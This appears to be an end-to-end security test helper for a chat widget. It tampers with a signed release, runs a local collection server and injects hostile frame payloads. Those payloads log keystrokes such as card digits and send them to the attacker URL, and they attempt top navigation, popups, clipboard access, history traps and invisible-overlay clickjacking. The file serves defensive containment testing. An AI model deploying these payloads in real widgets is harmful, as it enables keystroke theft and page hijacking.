/**
 * What the attack tests share: the attacker's collection server, a snapshot of the built release,
 * and a widget frame bundle modified by an attacker and signed with a key the node trusts (the
 * release signing key itself stolen: DESIGN.md's worst case); for the containment tests, a node
 * serving such a release with a Chromium, and the control loaders (loader.js with one defence out).
 */
import { cpSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll } from 'vitest';
import { generateReleaseKey, loadPrivateKey, signRelease, sri384, type Manifest } from '../server/security/release.js';
import { freePort } from '../server/testing/freePort.js';
import { launchChromium, ROOT, startServer, type RunningServer } from './harness.js';

export const CARD = '4242424242424242';

export interface Hit {
  method: string;
  url: string;
  body: string;
}

export interface Attacker {
  origin: string;
  hits: Hit[];
  bytes: () => number;
  close: () => Promise<void>;
}

/** The attacker's collection server: records everything, answers 204 to anything (CORS open). */
export async function attackerServer(): Promise<Attacker> {
  const hits: Hit[] = [];
  const srv: Server = createServer((req, res) => {
    let body = '';
    req.on('data', (c) => (body += c));
    req.on('end', () => {
      hits.push({ method: req.method ?? '', url: req.url ?? '', body });
      res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
    });
  });
  await new Promise<void>((r) => srv.listen(0, '127.0.0.1', () => r()));
  const port = (srv.address() as { port: number }).port;
  return {
    origin: `http://127.0.0.1:${port}`,
    hits,
    bytes: () => hits.reduce((n, h) => n + h.url.length + h.body.length, 0),
    close: () => new Promise((r) => srv.close(() => r())),
  };
}

export const leaked = (hits: Hit[]) => hits.filter((h) => decodeURIComponent(h.url + ' ' + h.body).replace(/\D/g, '').includes(CARD));

/** A snapshot of the built public files, so a concurrent `npm run build` cannot disturb a run. */
export function takeSnapshot(): string {
  const snapshot = mkdtempSync(join(tmpdir(), 'parley-attack-snapshot-'));
  cpSync(join(ROOT, 'dist', 'public'), snapshot, { recursive: true });
  if (!existsSync(join(snapshot, 'release.json'))) throw new Error('dist/public is not a signed build (run npm run build)');
  return snapshot;
}

/** Copies the snapshot's public files (with their signed manifest) to a temp dir. */
export function copyRelease(snapshot: string): string {
  const dir = mkdtempSync(join(tmpdir(), 'parley-attack-public-'));
  cpSync(snapshot, dir, { recursive: true });
  return dir;
}

/** Rewrites the manifest of `dir` to match its (patched) files, as an attacker with build access would. */
export function rewriteManifest(dir: string): void {
  const path = join(dir, 'manifest.json');
  const m = JSON.parse(readFileSync(path, 'utf8')) as Manifest;
  for (const file of Object.keys(m.files)) m.files[file] = sri384(readFileSync(join(dir, file)));
  writeFileSync(path, JSON.stringify(m, null, 2));
}

/** The frame bundle's file name inside a release dir. */
export function frameBundle(dir: string): string {
  const assets = join(dir, 'widget', 'frame', 'assets');
  return join(assets, readdirSync(assets).find((f) => f.endsWith('.js'))!);
}

/**
 * Appends `payload` to the frame bundle, rewrites the manifest and signs it with a fresh key.
 * Returns the release dir and the env a node needs to trust it (the stolen-key case).
 */
export function hostileRelease(snapshot: string, payload: string): { dir: string; env: Record<string, string>; cleanup: () => void } {
  const dir = copyRelease(snapshot);
  const bundle = frameBundle(dir);
  writeFileSync(bundle, readFileSync(bundle, 'utf8') + payload);
  rewriteManifest(dir);
  const keyRoot = mkdtempSync(join(tmpdir(), 'parley-attacker-key-'));
  const key = generateReleaseKey(join(keyRoot, 'key'));
  signRelease({ publicDir: dir, privateKey: loadPrivateKey(key.privateKeyFile), logPath: join(keyRoot, 'log.json') });
  return {
    dir,
    env: { PUBLIC_DIR: dir, RELEASE_PUBLIC_KEY: key.trusted.publicKey },
    cleanup: () => {
      rmSync(dir, { recursive: true, force: true });
      rmSync(keyRoot, { recursive: true, force: true });
    },
  };
}

/**
 * A node serving a hostile release (`payload`, given the attacker's origin, appended to the frame
 * bundle and signed with a key the node trusts), the attacker's server, and a Chromium, for one test
 * file: registers the beforeAll/afterAll pair and hands them to `use` once they run. Chromium runs
 * without its Local Network Access checks: pages rewritten by page.route count as public-address
 * documents for them, which would then refuse their loopback requests (the loader), and the control
 * runs (controlLoader) need those.
 */
export function hostileNodeAndChromium(
  opts: { payload: (attacker: string) => string; dataDirPrefix: string; popupBlocker?: boolean },
  use: (node: { server: RunningServer; attacker: Attacker; browser: Browser }) => void,
): void {
  const cleanups: Array<() => Promise<void> | void> = [];
  beforeAll(async () => {
    const snapshot = takeSnapshot();
    cleanups.push(() => rmSync(snapshot, { recursive: true, force: true }));
    const browser = await launchChromium(['--disable-features=LocalNetworkAccessChecks'], { popupBlocker: opts.popupBlocker });
    cleanups.push(() => browser.close());
    const attacker = await attackerServer();
    cleanups.push(attacker.close);
    const release = hostileRelease(snapshot, opts.payload(attacker.origin));
    cleanups.push(release.cleanup);
    const dataDir = mkdtempSync(join(tmpdir(), opts.dataDirPrefix));
    cleanups.push(() => rmSync(dataDir, { recursive: true, force: true }));
    const server = await startServer({ dataDir, port: await freePort(), demoPort: await freePort(), env: release.env });
    cleanups.push(() => server.stop());
    use({ server, attacker, browser });
  }, 60_000);
  afterAll(async () => {
    for (const c of cleanups.splice(0).reverse()) await c();
  });
}

/** A replacement in loader.js: [text that must be there, what it becomes]. */
export type LoaderEdit = [string, string];

let loaderSource: string | undefined;

/**
 * widget/loader/loader.js with one defence taken out, for a control run (each replacement must match,
 * so a control cannot go stale).
 */
export function loaderVariant(...edits: LoaderEdit[]): string {
  let code = (loaderSource ??= readFileSync(join(ROOT, 'widget', 'loader', 'loader.js'), 'utf8'));
  for (const [from, to] of edits) {
    if (!code.includes(from)) throw new Error(`control variant: ${JSON.stringify(from)} is no longer in loader.js`);
    code = code.replace(from, to);
  }
  return code;
}

/** Where a control loader variant is served from (by the test's route, never by the node). */
const controlLoaderUrl = (serverUrl: string) => `${serverUrl}/widget/v/control/loader.js`;

/**
 * The host page's HTML with its pinned loader tag pointed at the control variant. The variant has no
 * SRI hash, which the shop's Integrity-Policy would refuse: that header is taken out of `headers`.
 */
export function pointAtControlLoader(html: string, headers: Record<string, string>, serverUrl: string): string {
  delete headers['integrity-policy'];
  return html.replace(/src="[^"]+loader\.js" integrity="[^"]+"/, `src="${controlLoaderUrl(serverUrl)}"`);
}

/** Serves `code` (a loaderVariant) where pointAtControlLoader points the host page, to `on`'s requests. */
export async function serveControlLoader(on: Page | BrowserContext, serverUrl: string, code: string): Promise<void> {
  await on.route(controlLoaderUrl(serverUrl), (r) => r.fulfill({ status: 200, contentType: 'text/javascript', body: code, headers: { 'access-control-allow-origin': '*' } }));
}

/**
 * Everything a hostile frame can try against the host page, all at once, logging each attempt as
 * `PARLEY-ATTACK <what> <result>` to its console:
 *  - focus theft: window.focus() and its own input's focus() every 25 ms; every digit key it sees is
 *    logged (KEYS <digits so far>) and sent to the attacker by navigating itself (204: it stays),
 *    the one channel its CSP cannot close;
 *  - asking to open, grow and go full-screen: old-protocol layout messages to its parent (any
 *    origin), and on the loader's port 'open' and layout objects, every 100 ms;
 *  - on every click inside it (a user activation): top navigation (location and a target=_top link),
 *    popups (window.open and a target=_blank link), the Fullscreen API.
 */
export function hostilePayload(attacker: string): string {
  return `
;(function () {
  var A = ${JSON.stringify(attacker)}, keys = '', sent = '', port = null;
  function log(m) { console.log('PARLEY-ATTACK ' + m); }
  addEventListener('keydown', function (e) { if (/^[0-9]$/.test(e.key)) { keys += e.key; log('KEYS ' + keys); } }, true);
  addEventListener('message', function (e) { if (e.ports && e.ports[0]) port = e.ports[0]; });
  var n = 0, steal = setInterval(function () {
    try { window.focus(); var i = document.querySelector('textarea, input'); if (i) i.focus(); } catch (e) {}
    if (++n > 1200) clearInterval(steal);
  }, 25);
  var g = 0, grow = setInterval(function () {
    var big = { m: 'parley/1', type: 'layout', open: true, position: 'right', width: 5000, height: 5000 };
    try { parent.postMessage(big, '*'); } catch (e) {}
    try { if (port) { port.postMessage('open'); port.postMessage(big); } } catch (e) {}
    if (++g > 300) clearInterval(grow);
  }, 100);
  setInterval(function () {
    if (keys !== sent) { sent = keys; try { location.href = A + '/self?k=' + keys; } catch (e) {} }
  }, 1000);
  var busy = false;
  addEventListener('click', function () {
    if (busy) return; // its own link clicks below come back here
    busy = true;
    try { top.location.href = A + '/top?k=' + keys; log('TOP navigated'); } catch (e) { log('TOP ' + e.name); }
    try { var w = window.open(A + '/popup?k=' + keys); log('POPUP ' + (w ? 'opened' : 'blocked')); } catch (e) { log('POPUP ' + e.name); }
    try { var a = document.createElement('a'); a.href = A + '/anchor-top'; a.target = '_top'; document.body.appendChild(a); a.click(); } catch (e) {}
    try { var b = document.createElement('a'); b.href = A + '/anchor-blank'; b.target = '_blank'; document.body.appendChild(b); b.click(); } catch (e) {}
    try { document.documentElement.requestFullscreen().then(function () { log('FULLSCREEN granted'); }, function (e) { log('FULLSCREEN ' + e.name); }); } catch (e) { log('FULLSCREEN ' + e.name); }
    busy = false;
  }, true);
  log('LOADED');
})();
`;
}

/**
 * The red-team pass of the frame containment (e2e/containmentMore.test.ts): a hostile frame that waits
 * for the host page to name a mode (`Parley.push(['page', 'redteam', { mode }])`, which the loader
 * passes on its port as page context: the test's way to start one attack at a time), and logs each
 * attempt as `PARLEY-ATTACK <what> <result>`. Always, at load: what it can see of the page that framed
 * it (document.referrer, ancestorOrigins) and the features it is allowed.
 *  - files: every 100 ms, downloads of its own (blob:, data:, a Parley file with `download`) and
 *    requests to the loader to open paths (a Parley attachment, other Parley paths, other origins,
 *    javascript:, data:);
 *  - transparent: its document made transparent and its content invisible (it still takes the taps);
 *  - referrer: sends document.referrer to the attacker by navigating itself;
 *  - back: on every click, history.back() (the entry before it is the page's own);
 *  - history: on every click, 50 history.pushState, then history.back(), history.go(-1), go(-2);
 *  - misc: on every click, the clipboard (read, write, execCommand('copy')), the opener and the page's
 *    other frames (navigating them), scrolling or resizing the page (scrollIntoView, focus, resizeTo), print(), alert(),
 *    notifications; and any text dropped on it.
 */
export function redTeamPayload(attacker: string): string {
  return `
;(function () {
  var A = ${JSON.stringify(attacker)}, port = null, mode = '', n = 0;
  function log(m) { console.log('PARLEY-ATTACK ' + m); }
  function attempt(what, fn) { try { var r = fn(); log(what + ' ' + (r === undefined ? 'ok' : String(r))); } catch (e) { log(what + ' ' + e.name); } }
  log('REFERRER ' + document.referrer);
  log('ANCESTORS ' + Array.prototype.join.call(location.ancestorOrigins || [], ' '));
  try { log('FEATURES ' + document.featurePolicy.allowedFeatures().join(' ')); } catch (e) { log('FEATURES ' + e.name); }
  addEventListener('message', function (e) {
    if (!e.ports || !e.ports[0] || port) return;
    port = e.ports[0];
    port.addEventListener('message', function (m) {
      var d = m.data;
      if (Array.isArray(d) && d[0] === 'redteam' && d[1] && d[1].mode !== mode) { mode = d[1].mode; log('MODE ' + mode); start(); }
    });
  });
  function download(href, name) { var a = document.createElement('a'); a.href = href; a.download = name; document.body.appendChild(a); a.click(); a.remove(); }
  function start() {
    if (mode === 'files') {
      var t = setInterval(function () {
        if (++n > 200) return clearInterval(t);
        var real = document.querySelector('a.file-link');
        var path = real ? real.getAttribute('href') : '/files/att_nofile/0123456789abcdef';
        try { download(URL.createObjectURL(new Blob(['dropped ' + n])), 'blob-drop-' + n + '.txt'); } catch (e) {}
        try { download('data:text/plain,data-drop-' + n, 'data-drop-' + n + '.txt'); } catch (e) {}
        if (real) try { download(path, 'parley-drop-' + n + '.pdf'); } catch (e) {}
        var asks = [path, '/files/att_nofile/0123456789abcdef', '/api/widget/config', '/widget/frame/', '/files/att_x/0123456789/../../api',
          A + path, '//' + A.replace(/^https?:\\/\\//, '') + path, location.origin + path, 'javascript:alert(1)', 'data:text/html,<b>x</b>', ['redteam'], { file: path }];
        if (port) asks.forEach(function (p) { try { port.postMessage(p); } catch (e) {} });
        if (n % 20 === 1) log('FILES asked ' + n + ' ' + path);
      }, 100);
    } else if (mode === 'transparent') {
      [document.documentElement, document.body].forEach(function (el) {
        el.style.setProperty('background', 'transparent', 'important');
        el.style.setProperty('color-scheme', 'normal', 'important');
      });
      // Invisible, but still there: it takes the taps meant for the page it shows through.
      Array.prototype.forEach.call(document.body.children, function (c) { c.style.setProperty('opacity', '0', 'important'); });
      log('TRANSPARENT done');
    } else if (mode === 'referrer') {
      setTimeout(function () { location.href = A + '/referrer?r=' + encodeURIComponent(document.referrer); }, 300);
    }
  }
  addEventListener('click', function () {
    if (mode === 'back') {
      attempt('HISTORY length', function () { return history.length; });
      attempt('HISTORY back', function () { history.back(); });
    } else if (mode === 'history') {
      attempt('HISTORY before', function () { return history.length; });
      for (var i = 0; i < 50; i++) attempt('HISTORY push', function () { history.pushState({ i: i }, '', '?trap=' + i); });
      attempt('HISTORY after', function () { return history.length; });
      attempt('HISTORY back', function () { history.back(); });
      attempt('HISTORY go-1', function () { history.go(-1); });
      attempt('HISTORY go-2', function () { history.go(-2); });
    } else if (mode === 'misc') {
      try { navigator.clipboard.readText().then(function (t) { log('CLIP read ' + t); }, function (e) { log('CLIP read ' + e.name); }); } catch (e) { log('CLIP read ' + e.name); }
      try { navigator.clipboard.writeText('ATTACKER-CLIP-WRITE').then(function () { log('CLIP write ok'); }, function (e) { log('CLIP write ' + e.name); }); } catch (e) { log('CLIP write ' + e.name); }
      attempt('CLIP exec', function () {
        var ta = document.createElement('textarea'); ta.value = 'ATTACKER-CLIP-EXEC'; document.body.appendChild(ta); ta.select();
        var ok = document.execCommand('copy'); ta.remove(); return ok;
      });
      attempt('NAME', function () { return JSON.stringify(window.name); });
      attempt('TOPNAME', function () { return top.name; });
      attempt('OPENER', function () { return String(window.opener) + ' top.opener=' + (top.opener ? 'present' : 'null'); });
      attempt('OPENER navigate', function () { if (top.opener) top.opener.location.href = A + '/opener'; return !!top.opener; });
      attempt('SIBLINGS', function () { return top.length; });
      for (var k = 0; k < top.length; k++) (function (k) { attempt('SIBLING navigate', function () { if (top.frames[k] !== window) top.frames[k].location.href = A + '/sibling'; }); })(k);
      attempt('SCROLL', function () { document.documentElement.scrollIntoView(); var i = document.querySelector('textarea, input'); if (i) { i.scrollIntoView({ block: 'end' }); i.focus(); } });
      attempt('TOPSCROLL', function () { top.scrollTo(0, 0); });
      attempt('TOPRESIZE', function () { top.resizeTo(200, 200); });
      attempt('RESIZE', function () { window.resizeTo(5000, 5000); return innerWidth + 'x' + innerHeight; });
      attempt('PRINT', function () { window.print(); });
      attempt('ALERT', function () { alert('x'); });
      try { Notification.requestPermission().then(function (p) { log('NOTIFY ' + p); }); } catch (e) { log('NOTIFY ' + e.name); }
    }
  }, true);
  addEventListener('dragover', function (e) { e.preventDefault(); if (mode === 'misc') log('DRAGOVER types=' + Array.prototype.join.call(e.dataTransfer.types, ',') + ' data=' + e.dataTransfer.getData('text/plain')); }, true);
  addEventListener('drop', function (e) { e.preventDefault(); log('DROP ' + e.dataTransfer.getData('text/plain')); }, true);
  log('LOADED');
})();
`;
}
